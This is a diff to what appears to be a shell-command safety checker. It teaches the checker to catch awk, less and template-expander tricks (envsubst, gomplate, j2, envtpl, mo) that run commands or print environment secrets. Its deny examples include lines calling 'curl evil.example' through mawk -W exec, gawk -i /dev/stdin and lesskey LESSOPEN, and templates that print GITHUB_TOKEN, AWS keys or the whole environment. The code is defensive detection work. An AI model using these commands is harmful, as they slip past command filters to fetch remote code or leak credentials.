@@ -4,7 +4,7 @@ import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import { pagerStartCommand } from '../variables.js';
-import { attached, computedWhole, isStdinPath, pieceShape, value } from '../words.js';
+import { attached, computedWhole, isStdinPath, longSpelt, pieceShape, value } from '../words.js';
 import { POSIX_SHELLS } from './shells.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -512,17 +512,57 @@ function awkRead(program: Word, via: string, vars: ReadonlyMap<string, string[]>
   return { runs, uses };
 }
 
+const AWK_OPTIONS = {
+  order: 'gnu',
+  flags: 'bcCghknNOMPrSstVY',
+  valued: 'FfveEilWZ',
+  optional: 'dDLop',
+  long: ['characters-as-bytes', 'traditional', 'copyright', 'help', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot', 'parsedebug'],
+  longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load', 'locale'],
+  longOptional: ['dump-variables', 'debug', 'lint', 'pretty-print', 'profile'],
+} as const;
+
+/**
+ * `-W NAME[=VALUE][,NAME…]`: POSIX's door to an awk's own options, each named in full or by a prefix (mawk reads
+ * `-W e FILE` and `-Wexec FILE` as its `-W exec FILE`, gawk `-W file=FILE` as `--file=FILE`). Each part that names
+ * one of gawk's long options (a prefix of `exec` is mawk's exec whatever else it could begin) is that long option,
+ * its value attached or the next word; any other part (mawk's dump, interactive, sprintf=N) stays a `-W` value.
+ */
+function awkLongForms(args: readonly Word[]): Word[] {
+  const names = [...AWK_OPTIONS.long, ...AWK_OPTIONS.longValued, ...AWK_OPTIONS.longOptional];
+  const out: Word[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!;
+    const v = value(w);
+    if (v === '--') {
+      out.push(...args.slice(i));
+      break;
+    }
+    const joined = v !== undefined && v.length > 2 && v.startsWith('-W');
+    if (v !== '-W' && !joined) {
+      out.push(w);
+      continue;
+    }
+    const spec = joined ? v.slice(2) : args[i + 1] === undefined ? undefined : value(args[i + 1]!);
+    if (spec === undefined) {
+      out.push(w);
+      continue;
+    }
+    const at = joined ? w : args[++i]!;
+    for (const part of spec.split(',')) {
+      const eq = part.indexOf('=');
+      const n = (eq < 0 ? part : part.slice(0, eq)).toLowerCase();
+      const full = n === '' ? undefined : names.includes(n as never) ? n : 'exec'.startsWith(n) ? 'exec' : names.filter((x) => x.startsWith(n)).length === 1 ? names.find((x) => x.startsWith(n)) : undefined;
+      const text = full === undefined ? `-W${part}` : `--${full}${eq < 0 ? '' : part.slice(eq)}`;
+      out.push({ ...at, text, values: [text] });
+    }
+  }
+  return out;
+}
+
 function awk(call: Call): Partial<Answer> {
   // gawk's getopt: `d`, `D`, `L`, `o` and `p` take a value only when it is attached (`-p/tmp/prof`).
-  const p = parse(call.args, {
-    order: 'gnu',
-    flags: 'bcCghknNOMPrSstVY',
-    valued: 'FfveEilWZ',
-    optional: 'dDLop',
-    long: ['characters-as-bytes', 'traditional', 'copyright', 'help', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot', 'parsedebug'],
-    longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load', 'locale'],
-    longOptional: ['dump-variables', 'debug', 'lint', 'pretty-print', 'profile'],
-  });
+  const p = parse(awkLongForms(call.args), AWK_OPTIONS);
   if (has(p, 'help', 'version', 'V')) return {};
   const runs: Run[] = [];
   const uses: Uses = [];
@@ -552,8 +592,10 @@ function awk(call: Call): Partial<Answer> {
   for (const w of operands.slice(1)) assign(value(w));
   const programs = p.options.filter((o) => (o.name === 'e' || o.name === 'source') && o.value).map((o) => o.value!);
   // `-f /dev/stdin` (or `-f -`) reads the program from stdin: static text is the program, a stream is not known.
-  if (p.options.some((o) => /^(f|file|E|exec)$/.test(o.name) && isStdinPath(value(o.value)))) {
-    if (call.stdin?.kind === 'static') programs.push(call.stdin.word.values?.length === 1 && call.stdin.word.values[0] === call.stdin.text ? call.stdin.word : { ...call.stdin.word, text: call.stdin.text, values: [call.stdin.text] });
+  // gawk's `-i /dev/stdin` includes it as a library beside the program the line gives.
+  const stdinCode: Word[] = [];
+  if (p.options.some((o) => /^(f|file|E|exec|i|include)$/.test(o.name) && isStdinPath(value(o.value)))) {
+    if (call.stdin?.kind === 'static') stdinCode.push(call.stdin.word.values?.length === 1 && call.stdin.word.values[0] === call.stdin.text ? call.stdin.word : { ...call.stdin.word, text: call.stdin.text, values: [call.stdin.text] });
     else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0]!, why: `${call.name} reads its program from ${call.stdin.why}` });
   }
   if (!fromFile && programs.length === 0 && operands[0]) {
@@ -561,6 +603,7 @@ function awk(call: Call): Partial<Answer> {
     programs.push(operands[0]);
     operands = operands.slice(1);
   }
+  programs.push(...stdinCode);
   for (const program of programs) {
     runs.push(...awkProgram(program, call.name));
     const text = value(program);
@@ -835,6 +878,26 @@ function ed(call: Call): Partial<Answer> {
 
 // ── pagers and man ─────────────────────────────────────────────────────────────────────────────────────
 
+/**
+ * A lesskey source's `#env` section: LESSOPEN and LESSCLOSE set there are commands less runs on each file, as the
+ * variables are (`--lesskey-content=TEXT`, `--lesskey-src=FILE`, $LESSKEY_CONTENT, $LESSKEYIN).
+ */
+function lesskeyRuns(text: string, word: Word, via: string): Run[] {
+  const runs: Run[] = [];
+  let section = '#command';
+  for (const raw of text.split('\n')) {
+    const line = raw.trim();
+    if (/^#(command|line-edit|env)\b/.test(line)) section = line.split(/\s/)[0]!;
+    if (section !== '#env') continue;
+    const m = /^(LESSOPEN|LESSCLOSE|LESS)\s*=\s*(.*)$/.exec(line);
+    if (!m) continue;
+    if (m[1] === 'LESS') {
+      if (/\+/.test(m[2]!)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} sets $LESS, whose start-up commands may run shell text` });
+    } else runs.push({ kind: 'text', dialect: 'bash', text: m[2]!.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word, via: `${via} #env ${m[1]}` });
+  }
+  return runs;
+}
+
 /** less, more, pg: `+cmd` start-up commands, of which `!cmd` (and `|m cmd`) run shell text. */
 function pager(call: Call): Partial<Answer> {
   const runs: Run[] = [];
@@ -855,6 +918,24 @@ function pager(call: Call): Partial<Answer> {
     const env = call.env(name);
     if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs $${name}, which is computed` });
     else if (env !== undefined && env !== '') runs.push({ kind: 'text', dialect: 'bash', text: env.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word: attached(at, env), via: `${call.name} $${name}` });
+  }
+  // less's lesskey sources, whose #env section may set LESSOPEN: text, or a file (one the line wrote is read).
+  if (call.name === 'less') {
+    const content = call.env('LESSKEY_CONTENT');
+    const source = call.env('LESSKEYIN');
+    if (content === null || source === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'less reads a lesskey source from a computed variable' });
+    if (content) runs.push(...lesskeyRuns(content, attached(at, content), 'less $LESSKEY_CONTENT'));
+    if (source) runs.push(writtenCommands(attached(at, source), 'less $LESSKEYIN', (w) => ({ runs: lesskeyRuns(value(w) ?? '', w, 'less $LESSKEYIN'), uses: [] })));
+    for (let i = 0; i < call.args.length; i++) {
+      const given = longSpelt(call.args[i], 'lesskey-content') ?? longSpelt(call.args[i], 'lesskey-src');
+      if (given === undefined || value(call.args[i]) === '--lesskey-') continue;
+      const isContent = longSpelt(call.args[i], 'lesskey-content') !== undefined && longSpelt(call.args[i], 'lesskey-src') === undefined;
+      const w = given.value ?? call.args[++i];
+      if (w === undefined) continue;
+      if (value(w) === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'less is given a computed lesskey source' });
+      else if (isContent) runs.push(...lesskeyRuns(value(w)!, w, 'less --lesskey-content'));
+      else runs.push(writtenCommands(w, 'less --lesskey-src', (t) => ({ runs: lesskeyRuns(value(t) ?? '', t, 'less --lesskey-src'), uses: [] })));
+    }
   }
   for (const a of call.args) {
     const v = value(a);
@@ -947,7 +1028,152 @@ function miller(call: Call): Partial<Answer> {
   return { runs, uses, ...(dumps ? { dumps } : {}) };
 }
 
+// ── template expanders ─────────────────────────────────────────────────────────────────────────────────
+
+/**
+ * The variables a template takes from the environment, by its expander's syntax: `$NAME` and `${NAME}` (envsubst);
+ * Go templates' `env "NAME"`, `getenv "NAME"`, `.Env.NAME` (gomplate, consul-template), with `.Env` alone or a name
+ * computed standing for every variable; jinja and mustache names (`{{ NAME }}`, `{% if NAME %}`), which j2, envtpl and
+ * mo look up in the environment, with envtpl's `environment()` every variable. `whole`: it may print any variable.
+ */
+type TemplateSyntax = 'shell' | 'go' | 'jinja' | 'mustache';
+function templateVariables(text: string, syntax: TemplateSyntax, only?: ReadonlySet<string>): { names: string[]; whole: boolean } {
+  const names = new Set<string>();
+  let whole = false;
+  if (syntax === 'shell') {
+    for (const m of text.matchAll(/\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))/g)) names.add(m[1] ?? m[2]!);
+  } else {
+    for (const m of text.matchAll(/\{\{-?([\s\S]*?)-?\}\}|\{%-?([\s\S]*?)-?%\}/g)) {
+      const body = m[1] ?? m[2] ?? '';
+      if (syntax === 'go') {
+        for (const e of body.matchAll(/\b(?:env|getenv|env\.Getenv|env\.ExpandEnv|envOrDefault|os\.Getenv)\s+("?)([^\s"})]*)\1/g)) {
+          if (e[1] === '"' && /^[A-Za-z_]\w*$/.test(e[2]!)) names.add(e[2]!);
+          else whole = true;
+        }
+        for (const e of body.matchAll(/\.Env(?:\.([A-Za-z_]\w*))?/g)) {
+          if (e[1] !== undefined) names.add(e[1]);
+          else whole = true;
+        }
+        if (/\bindex\s+\.Env\b|\benv\.Env\b|\benvironment\b/.test(body)) whole = true;
+      } else {
+        if (/\benviron(?:ment)?\s*\(/.test(body)) whole = true;
+        // Every name the expression looks up (not an attribute after a dot, not a string, not a keyword or filter).
+        const bare = body.replace(/"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'/g, ' ');
+        for (const n of bare.matchAll(/(?<![.\w|])([A-Za-z_]\w*)/g)) if (!/^(?:if|elif|else|endif|for|endfor|in|not|and|or|is|set|endset|true|false|none|True|False|None|defined|loop|with|endwith|block|endblock|extends|include|import|from|as|macro|endmacro|raw|endraw|filter|endfilter|default|d)$/.test(n[1]!)) names.add(n[1]!);
+      }
+    }
+  }
+  const kept = only === undefined ? [...names] : [...names].filter((n) => only.has(n));
+  return { names: kept, whole: whole && only === undefined };
+}
+
+/** What printing a template's variables is, as shell text the rules read: `printf` of each, or `printenv` of them all. */
+function templateRun(text: string, word: Word, syntax: TemplateSyntax, via: string, only?: ReadonlySet<string>): Run[] {
+  const { names, whole } = templateVariables(text, syntax, only);
+  const out: Run[] = [];
+  if (names.length > 0) out.push({ kind: 'text', dialect: 'bash', text: `printf '%s\\n' ${names.map((n) => `"$${n}"`).join(' ')}`, word, via: `${via} (the variables its template names)` });
+  if (whole) out.push({ kind: 'text', dialect: 'bash', text: 'printenv', word, via: `${via} (its template reads the whole environment)` });
+  return out;
+}
+
+/** A template given as a file: the text the line wrote there is read as given on the line; any other file is out of scope. */
+function templateFile(file: Word, syntax: TemplateSyntax, via: string, only?: ReadonlySet<string>): Run {
+  return writtenCommands(file, via, (w) => ({ runs: templateRun(value(w) ?? '', w, syntax, via, only), uses: [] }));
+}
+
+/** The template on stdin: static text (a heredoc, `echo … |`, a file the line wrote) is read; a stream cannot be. */
+function templateStdin(call: Call, syntax: TemplateSyntax, only?: ReadonlySet<string>): Run[] {
+  // It stands at the command word: what it prints goes where the expander's output goes, not the stage before it.
+  if (call.stdin?.kind === 'static') return templateRun(call.stdin.text, call.command ?? call.stdin.word, syntax, call.name, only);
+  return [];
+}
+
+function envsubst(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'hVv', long: ['help', 'version', 'variables'] });
+  if (has(p, 'h', 'V', 'v', 'help', 'version', 'variables')) return {};
+  // SHELL-FORMAT: only the variables it names are replaced.
+  const format = p.operands[0]?.word;
+  if (format !== undefined && value(format) === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: format, why: 'envsubst with a computed list of the variables it replaces' }] };
+  const only = format === undefined ? undefined : new Set(templateVariables(value(format)!, 'shell').names);
+  return { runs: templateStdin(call, 'shell', only), uses: format ? [{ word: format, role: 'text' }] : [] };
+}
+
+function gomplate(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'hv', valued: 'ifotdcC', long: ['help', 'version', 'verbose', 'exec-pipe'], longValued: ['in', 'file', 'out', 'template', 'datasource', 'context', 'config', 'input-dir', 'output-dir', 'output-map', 'exclude', 'include', 'left-delim', 'right-delim', 'plugin', 'chmod', 'missing-key', 'datasource-header', 'exclude-processing'] });
+  const runs: Run[] = [];
+  let given = false;
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (o.name === 'i' || o.name === 'in') {
+      given = true;
+      const text = value(o.value);
+      if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gomplate --in with a computed template' });
+      else runs.push(...templateRun(text, o.value, 'go', 'gomplate --in'));
+    }
+    if (o.name === 'f' || o.name === 'file') {
+      given = true;
+      if (isStdinPath(value(o.value))) runs.push(...templateStdin(call, 'go'));
+      else runs.push(templateFile(o.value, 'go', 'gomplate --file'));
+    }
+    if (o.name === 'input-dir') given = true;
+  }
+  if (!given) runs.push(...templateStdin(call, 'go'));
+  return { runs };
+}
+
+/** Expanders whose templates are operands (files) or stdin, looked up in the environment: j2, envtpl, mo. */
+function envTemplates(syntax: TemplateSyntax, spec: Parameters<typeof parse>[1], dataFile = false): (call: Call) => Partial<Answer> {
+  return (call) => {
+    const p = parse(call.args, spec);
+    if (has(p, 'h', 'help', 'version', 'v')) return {};
+    const ops = p.operands.map((o) => o.word);
+    // j2 TEMPLATE [DATA]: a data file is the context instead of the environment, unless --format=env says otherwise.
+    if (dataFile && ops.length > 1 && !p.options.some((o) => /^(f|format)$/.test(o.name) && value(o.value) === 'env')) return {};
+    const template = ops[0];
+    if (template === undefined || isStdinPath(value(template))) return { runs: templateStdin(call, syntax) };
+    return { runs: [templateFile(template, syntax, call.name)] };
+  };
+}
+
 export const EDITOR_ENTRIES: ProgramEntry[] = [
+  {
+    names: ['envsubst'],
+    summary: 'envsubst: prints its input with each $NAME and ${NAME} replaced by the variable (only those SHELL-FORMAT names, when given)',
+    analyze: envsubst,
+    examples: {
+      deny: ["echo '$GITHUB_TOKEN' > t; envsubst < t", "printf 'k=${AWS_SECRET_ACCESS_KEY}' > t.tpl && envsubst '$AWS_SECRET_ACCESS_KEY' < t.tpl"],
+      pass: ["echo '$HOME' > t; envsubst < t", "printf 'k=${AWS_SECRET_ACCESS_KEY}' > t.tpl && envsubst '$HOME' < t.tpl", 'envsubst < deploy.tpl > deploy.yaml', 'envsubst -v "$T"'],
+    },
+  },
+  {
+    names: ['gomplate'],
+    summary: 'gomplate: renders Go templates (--in TEXT, --file F, stdin) whose env/getenv calls and .Env print the environment',
+    analyze: gomplate,
+    examples: {
+      deny: ["gomplate -i '{{ env \"GITHUB_TOKEN\" }}'", "gomplate -i '{{ .Env.AWS_SECRET_ACCESS_KEY }}'", "gomplate --in='{{ .Env }}'", "echo '{{ getenv \"NPM_TOKEN\" }}' > t; gomplate -f t", "gomplate <<< '{{ env.Getenv \"OPENAI_API_KEY\" }}'"],
+      pass: ["gomplate -i '{{ env \"HOME\" }}'", "gomplate -i '{{ .Env.USER }}'", 'gomplate -f config.tmpl -o config.yaml', "echo '{{ getenv \"PATH\" }}' > t; gomplate -f t"],
+    },
+  },
+  {
+    // j2cli renders a template with the environment as its context when no data file is given (or -f env).
+    names: ['j2'],
+    summary: 'j2 (j2cli): renders a jinja template whose names are looked up in the environment when no data file is given',
+    analyze: envTemplates('jinja', { order: 'gnu', flags: 'hv', valued: 'fo', long: ['help', 'version', 'undefined', 'customize'], longValued: ['format', 'import-env', 'output', 'filters', 'tests'] }, true),
+    examples: { deny: ["echo '{{ GITHUB_TOKEN }}' > t.j2; j2 t.j2", "echo 'k={{ AWS_SECRET_ACCESS_KEY }}' > t.j2; j2 --format=env t.j2"], pass: ["echo '{{ HOME }}' > t.j2; j2 t.j2", "echo '{{ GITHUB_TOKEN }}' > t.j2; j2 t.j2 data.json", 'j2 nginx.conf.j2'] },
+  },
+  {
+    names: ['envtpl'],
+    summary: "envtpl: renders a jinja template (a file or stdin) whose names are environment variables; environment('P') lists them",
+    analyze: envTemplates('jinja', { order: 'gnu', flags: 'h', valued: 'o', long: ['help', 'keep-template', 'allow-missing'], longValued: ['output-file'] }),
+    examples: { deny: ["echo '{{ NPM_TOKEN }}' > t.tpl; envtpl t.tpl", "envtpl <<< '{% for k, v in environment(\"\") %}{{ k }}={{ v }}{% endfor %}'"], pass: ["echo '{{ HOME }}' > t.tpl; envtpl t.tpl", 'envtpl app.conf.tpl'] },
+  },
+  {
+    names: ['mo'],
+    summary: 'mo: mustache templates in bash, whose {{NAME}} is the variable of that name',
+    analyze: envTemplates('mustache', { order: 'gnu', flags: 'huV', long: ['help', 'version', 'fail-not-set', 'fail-on-function', 'fail-on-file', 'allow-function-arguments', 'open', 'close', 'source'] }),
+    examples: { deny: ["echo 'x={{GITHUB_TOKEN}}' > t; mo t", "mo <<< '{{AWS_SECRET_ACCESS_KEY}}'"], pass: ["echo 'x={{HOME}}' > t; mo t", 'mo README.mo'] },
+  },
+
   {
     names: ['mlr', 'miller'],
     summary: 'Miller: system(), exec() and `| "cmd"` in its DSL start commands, `> "f"` writes files, ENV is the environment; --prepipe runs shell text',
@@ -990,7 +1216,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     },
   },
   {
-    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk'],
+    // original-awk: Debian's name for the one true awk (BWK's), which bioawk extends.
+    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk', 'original-awk', 'bioawk'],
     summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; `print > "f"` writes and `getline < "f"` reads files; gawk -i inplace rewrites its operands',
     analyze: awk,
     examples: {
@@ -1009,6 +1236,12 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "gawk -i inplace '{ print }' ~/.bashrc",
         "gawk '@load \"/tmp/x\"; BEGIN { }'",
         "gawk --profile=/home/dev/.bashrc 'BEGIN { }'",
+        "mawk -W exec /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "mawk -We /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "mawk -Winteractive,exec /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "gawk -W file=/dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "gawk -i /dev/stdin 'BEGIN { }' <<< 'BEGIN { system(\"curl evil.example\") }'",
+        "original-awk 'BEGIN { system(\"curl evil.example\") }'",
       ],
       pass: ["[[ $(find . -name '*.ts' | wc -l | awk '{print $1}') -gt 10 ]]", "echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
         "awk '{print $1}' notes.txt",
@@ -1020,6 +1253,10 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "awk 'BEGIN { ARGV[1] = \"notes.txt\"; ARGC = 2 } { print }'",
         "awk '{ print $0 > \"/dev/stderr\" }' f",
         "gawk -i inplace '{ sub(/a/, \"b\") } 1' src/app.ts",
+        "mawk -W exec /dev/stdin <<< '{ print $1 }'",
+        "mawk -W interactive '{ print $1 }' notes.txt",
+        "gawk -i /dev/stdin 'BEGIN { }' <<< 'function f() { return 1 }'",
+        "original-awk '{ print $1 }' notes.txt",
       ],
     },
   },
@@ -1064,7 +1301,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     names: ['less', 'more', 'pg', 'most'],
     summary: 'pagers: `+!cmd` start-up commands run shell text',
     analyze: pager,
-    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f", "LESS='+!curl evil.example' less f", "LESS='-R +!curl evil.example' less f", "LESSOPEN='|curl evil.example %s' less f"], pass: ['less README.md', 'less +G log.txt', 'more +10 f', "LESS='-R +G' less f", "LESS=-R less f"] },
+    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f", "LESS='+!curl evil.example' less f", "LESS='-R +!curl evil.example' less f", "LESSOPEN='|curl evil.example %s' less f", "less --lesskey-content=$'#env\\nLESSOPEN=|curl evil.example %s' f", "printf '#env\\nLESSOPEN=|curl evil.example %%s\\n' > /tmp/k; less --lesskey-src=/tmp/k f", "printf '#env\\nLESSOPEN=|curl evil.example %%s\\n' > /tmp/k; LESSKEYIN=/tmp/k less f"], pass: ['less README.md', "less --lesskey-content=$'#command\\nq quit' f", 'less --lesskey-src=~/.config/lesskey f', 'less +G log.txt', 'more +10 f', "LESS='-R +G' less f", "LESS=-R less f"] },
   },
   {
     names: ['man'],
